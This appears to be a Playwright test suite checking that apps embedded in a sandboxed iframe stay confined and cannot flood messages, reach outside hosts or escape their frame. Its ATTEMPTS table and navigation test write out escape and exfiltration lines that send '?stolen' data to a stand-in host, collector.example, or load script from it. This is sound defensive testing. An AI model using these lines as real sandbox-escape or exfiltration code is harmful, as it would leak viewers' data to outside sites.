import type { FrameLocator, Page } from '@playwright/test';
import type { PlatformClient } from '@svc-embed/platform';
import { expect, loaded, payloadsOf, surface, test } from '../../support/sandbox-test.js';

declare global {
  /** The app's port to the surface. */
  var port: MessagePort;
}

/** An app that shows what it receives, and queries the cities when it starts. */
const APP = `
const show = (name, value) => {
  const output = document.createElement('output');
  output.dataset[name] = '';
  output.textContent = JSON.stringify(value);
  document.querySelector('[data-' + name + ']')?.remove();
  document.body.append(output);
};
addEventListener('message', ({ data, ports: [port] }) => {
  if (data.type !== 'svc:data') return;
  globalThis.port = port;
  port.onmessage = ({ data }) => show(data.type === 'context' ? 'context' : 'answer', data);
  port.postMessage({
    id: 'cities',
    query: { view: 'weather', dimensions: ['weather.city'], measures: [], filters: [] },
  });
});
`;
const HTML =
  '<!doctype html><meta charset="utf-8"><title>App</title><h1>Weather</h1><script type="module" src="lib/app.js"></script>';

async function publishApp(client: PlatformClient, files: Record<string, string>): Promise<string> {
  const config = { kind: 'APP', app: { entry: 'index.html', files } } as const;
  const input = { workbookId: 4, allowEmbed: true, title: 'Weather app', config };
  return (await client.workbooks.publishDashboard(2, 4, input)).publicId;
}

const app = (page: Page): FrameLocator => surface(page).frameLocator('iframe[data-app]');
const query = (dimension: string) => ({ view: 'weather', dimensions: [dimension], measures: [], filters: [] });

async function watchCollector(page: Page): Promise<string[]> {
  const urls: string[] = [];
  await page.route('https://collector.example/**', (route) => {
    urls.push(route.request().url());
    return route.abort();
  });
  return urls;
}

const viewer = { deploymentId: 2, externalId: 'app', userAttributes: [{ name: 'city', value: 'Seattle' }] };

test.describe('an app', () => {
  test.beforeEach(async ({ page, client, openEmbed }) => {
    const dashboard = await publishApp(client, { 'index.html': HTML, 'lib/app.js': APP });
    expect((await openEmbed(page, { viewer, dashboard })).state).toBe('ready');
    await expect(app(page).getByRole('heading')).toHaveText('Weather');
  });

  test('an app runs in a sandboxed frame, with the data and settings of its viewer', async ({ page }) => {
    await expect(surface(page).locator('iframe[data-app]')).toHaveAttribute('sandbox', 'allow-scripts');
    await expect(surface(page).locator('iframe[data-app]')).toHaveAttribute('title', 'Weather app');
    await loaded(page);
    await expect(surface(page).locator('.app-frame')).toHaveAttribute('data-state', 'ready');
    await expect(app(page).locator('[data-answer]')).toHaveText(
      JSON.stringify({ id: 'cities', rows: [{ 'weather.city': 'Seattle' }] }),
    );
    await page.evaluate(() => {
      embed.setLocale('de-DE');
      embed.setColorScheme('dark');
      embed.setFilter('weather.city', { value: 'Seattle' });
    });
    const filters = [{ member: 'weather.city', operator: 'equals', values: ['Seattle'] }];
    await expect(app(page).locator('[data-context]')).toHaveText(
      JSON.stringify({ type: 'context', locale: 'de-DE', colorScheme: 'dark', filters }),
    );
  });

  test('a refresh of the host runs the app again', async ({ page }) => {
    await expect(app(page).locator('[data-answer]')).toContainText('rows');
    await app(page)
      .locator('body')
      .evaluate(() => Object.assign(globalThis, { old: true }));
    await page.evaluate(() => embed.refresh());
    await expect
      .poll(() =>
        app(page)
          .locator('body')
          .evaluate(() => 'old' in globalThis),
      )
      .toBe(false);
    await expect(app(page).locator('[data-answer]')).toContainText('rows');
    await expect(app(page).locator('[data-context]')).toContainText('en-US');
    await expect(surface(page).locator('iframe[data-app]')).toHaveCount(1);
  });

  test('messages that an app floods its port and its parents with have no effect', async ({ page }) => {
    await expect(app(page).locator('[data-answer]')).toContainText('cities');
    const heard = await page.evaluate(() => events.length);
    await app(page)
      .locator('body')
      .evaluate((_, asked) => {
        const event = { type: 'svc:event:navigate', version: 1, payload: { path: '/embed/stolen' } };
        for (let id = 0; id < 5_000; id++) {
          port.postMessage(id % 2 ? { __proto__: { id, query: asked }, constructor: 1 } : { id, query: asked });
          for (const around of [parent, top]) around?.postMessage(event, '*');
        }
        port.postMessage({ id: 'long', query: { ...asked, dimensions: Array(1_000_000).fill('weather.city') } });
        port.postMessage({ id: 'last', query: { view: 'weather', dimensions: ['weather.city'] } });
      }, query('weather.city'));
    await expect(app(page).locator('[data-answer]')).toContainText(/Too many|rows|at most/);
    await expect
      .poll(async () => {
        await app(page)
          .locator('body')
          .evaluate((_, asked) => port.postMessage({ id: 'after', query: asked }), query('weather.city'));
        return app(page).locator('[data-answer]').textContent();
      })
      .toBe(JSON.stringify({ id: 'after', rows: [{ 'weather.city': 'Seattle' }] }));
    await expect(surface(page).getByRole('heading', { level: 1 })).toHaveText('Weather app');
    expect(await page.evaluate((since) => events.slice(since), heard)).toEqual([]);
  });
});

/** Attempts that must fail. `refused` and `settled` are functions of the app. */
const ATTEMPTS: Readonly<Record<string, string>> = {
  'read the surface': 'parent.document.title',
  'read the page around it': 'top.document.title',
  'navigate the page around it': 'top.location.href = "about:blank"',
  'store anything': 'localStorage.setItem("a", "b")',
  'set cookies': 'document.cookie = "a=b"',
  'open a database': 'settled(indexedDB.open("a"), "success")',
  'call the platform': 'fetch("/embed/api/dashboards")',
  'request another site': 'fetch("https://collector.example/?stolen")',
  'load a picture from another site':
    'settled(Object.assign(new Image(), { src: "https://collector.example/?stolen" }), "load")',
  'open a socket': 'settled(new WebSocket("wss://collector.example"), "open")',
  'load a script from another site': 'import("https://collector.example/evil.js")',
  'start a worker': 'settled(new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))), "message")',
  'open a window': 'open("about:blank") ?? refused()',
  'compile a text': 'new Function("return 1")()',
};
const ATTEMPTING = `
const refused = () => { throw new Error('refused'); };
const settled = (target, success) => new Promise((resolve, reject) => {
  target.addEventListener(success, resolve);
  target.addEventListener('error', reject);
});
const attempts = { ${Object.entries(ATTEMPTS).map(([name, code]) => `'${name}': async () => ${code}`)} };
const outcomes = {};
for (const [name, attempt] of Object.entries(attempts)) {
  outcomes[name] = await attempt().then(() => 'done', () => 'refused');
}
const output = document.createElement('output');
output.textContent = JSON.stringify(outcomes);
document.body.append(output);
`;

test('an app cannot leave its frame', async ({ page, client, openEmbed }) => {
  const collected = await watchCollector(page);
  const dashboard = await publishApp(client, { 'index.html': HTML, 'lib/app.js': ATTEMPTING });
  await openEmbed(page, { viewer, dashboard });
  const outcomes: unknown = JSON.parse((await app(page).locator('output').textContent()) ?? '');
  expect(outcomes).toEqual(Object.fromEntries(Object.keys(ATTEMPTS).map((name) => [name, 'refused'])));
  expect(collected).toEqual([]);
});

test('an app cannot navigate its frame', async ({ page, client, openEmbed }) => {
  const collected = await watchCollector(page);
  const refusal = page.waitForEvent('console', (message) => message.text().includes('frame-src'));
  const leave = 'location.href = "https://collector.example/?stolen";';
  await openEmbed(page, { viewer, dashboard: await publishApp(client, { 'index.html': HTML, 'lib/app.js': leave }) });
  await refusal;
  expect(collected).toEqual([]);
});

test('an app without its entry shows and reports a failure', async ({ page, client, openEmbed }) => {
  await openEmbed(page, { viewer, dashboard: await publishApp(client, { 'other.html': HTML }) });
  await expect(surface(page).getByRole('alert')).toHaveText('This app could not be loaded.');
  await loaded(page);
  expect(await payloadsOf(page, 'error')).toEqual([expect.objectContaining({ name: 'AppFailed' })]);
});
